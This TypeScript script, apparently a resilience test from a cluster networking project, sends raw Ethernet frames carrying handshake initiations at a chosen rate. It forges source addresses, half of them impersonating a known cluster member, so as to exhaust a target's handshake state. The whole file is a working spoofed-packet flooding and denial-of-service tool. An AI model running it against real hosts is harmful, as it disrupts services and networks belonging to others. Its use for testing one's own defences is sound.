/**
 * Sends handshake initiations under forged source addresses, as raw Ethernet frames (AF_PACKET), at a set rate; prints how
 * many went out. Run in a host that has nothing to do with the cluster.
 *
 *   INTERFACE TARGET-MAC TARGET-IP MEMBER-IP PSK-ID SECONDS PER-SECOND
 *
 * Every other frame claims to come from MEMBER-IP, a host that the target knows; the rest from all over the world. All name
 * PSK-ID, which anybody on the underlay can read; their macs are worthless.
 */
import { randomFillSync } from 'node:crypto';
import { addressOf, sendmmsgAt, socket, bind, SOCK_RAW } from '../../agent/io/libc.ts';
import { interfaceIndex } from '../../agent/io/ifreq.ts';

const AF_PACKET = 17;
const ETHERNET_BYTES = 14;
const IP_BYTES = 20;
const UDP_BYTES = 8;
const INITIATION_BYTES = 152;
const FRAME_BYTES = ETHERNET_BYTES + IP_BYTES + UDP_BYTES + INITIATION_BYTES;
/** As many different ones as the target remembers, and more. */
const FRAMES = 16_384;
const BATCH = 64;
const MMSGHDR_BYTES = 64;
const IOVEC_BYTES = 16;
const DATA_PORT = 4789;

const [
  iface = '',
  targetMac = '',
  targetIp = '',
  memberIp = '',
  pskId = '0',
  seconds = '1',
  perSecond = '1',
] = process.argv.slice(2);

function openSocket(): number {
  const fd = socket(AF_PACKET, SOCK_RAW, 0);
  const address = new Uint8Array(20);
  const view = new DataView(address.buffer);
  view.setUint16(0, AF_PACKET, true);
  view.setInt32(4, interfaceIndex(iface) ?? 0, true);
  if (fd < 0 || bind(fd, address, address.length) !== 0) throw new Error(`no packet socket on ${iface}`);
  return fd;
}

function frames(): Buffer {
  const all = Buffer.alloc(FRAMES * FRAME_BYTES);
  randomFillSync(all);
  for (let i = 0; i < FRAMES; i++) {
    const frame = all.subarray(i * FRAME_BYTES, (i + 1) * FRAME_BYTES);
    frame.write(targetMac.replaceAll(':', ''), 0, 'hex');
    frame.write('026666666666', 6, 'hex');
    frame.writeUInt16BE(0x0800, 12);
    const ip = frame.subarray(ETHERNET_BYTES);
    ip.set([0x45, 0, 0, FRAME_BYTES - ETHERNET_BYTES, i >> 8, i & 255, 0x40, 0, 64, 17, 0, 0]);
    if (i % 2 === 0) ip.set(memberIp.split('.').map(Number), 12);
    else ip[12] = 100; // 100.x.y.z
    ip.set(targetIp.split('.').map(Number), 16);
    ip.writeUInt16BE(headerChecksum(ip.subarray(0, IP_BYTES)), 10);
    const udp = ip.subarray(IP_BYTES);
    udp.writeUInt16BE(DATA_PORT, 2);
    udp.writeUInt16BE(UDP_BYTES + INITIATION_BYTES, 4);
    udp.writeUInt16BE(0, 6); // none, as IPv4 allows
    udp.set([1, 0, 0, 0], UDP_BYTES);
    udp.writeUInt32BE(Number(pskId), UDP_BYTES + 8);
  }
  return all;
}

function headerChecksum(header: Buffer): number {
  let sum = 0;
  for (let at = 0; at < header.length; at += 2) sum += header.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** struct mmsghdr[FRAMES], each with its frame. Plain memory that does not move: a SharedArrayBuffer. */
function table(all: Buffer): { address: number; keep: unknown } {
  const shared = new Uint8Array(new SharedArrayBuffer(FRAMES * (MMSGHDR_BYTES + IOVEC_BYTES + FRAME_BYTES)));
  const base = addressOf(shared);
  const view = new DataView(shared.buffer);
  const iovs = FRAMES * MMSGHDR_BYTES;
  const data = iovs + FRAMES * IOVEC_BYTES;
  shared.set(all, data);
  for (let i = 0; i < FRAMES; i++) {
    const iov = iovs + i * IOVEC_BYTES;
    view.setBigUint64(iov, BigInt(base + data + i * FRAME_BYTES), true);
    view.setBigUint64(iov + 8, BigInt(FRAME_BYTES), true);
    view.setBigUint64(i * MMSGHDR_BYTES + 16, BigInt(base + iov), true);
    view.setBigUint64(i * MMSGHDR_BYTES + 24, 1n, true);
  }
  return { address: base, keep: shared };
}

const fd = openSocket();
const { address, keep } = table(frames());
const start = performance.now();
const total = Number(seconds) * Number(perSecond);
let sent = 0;
let next = 0;
while (sent < total && performance.now() - start < Number(seconds) * 2_000) {
  const due = Math.min(total, ((performance.now() - start) / 1_000) * Number(perSecond));
  if (sent >= due) {
    await new Promise((resolve) => setTimeout(resolve, 1));
    continue;
  }
  const count = Math.min(BATCH, FRAMES - next);
  const done = sendmmsgAt(fd, address + next * MMSGHDR_BYTES, count, 0);
  if (done > 0) {
    sent += done;
    next = (next + done) % FRAMES;
  } else await new Promise((resolve) => setTimeout(resolve, 1));
}
const tookMs = performance.now() - start;
process.stdout.write(`${JSON.stringify({ sent, tookMs: Math.round(tookMs), kept: keep !== undefined })}\n`);
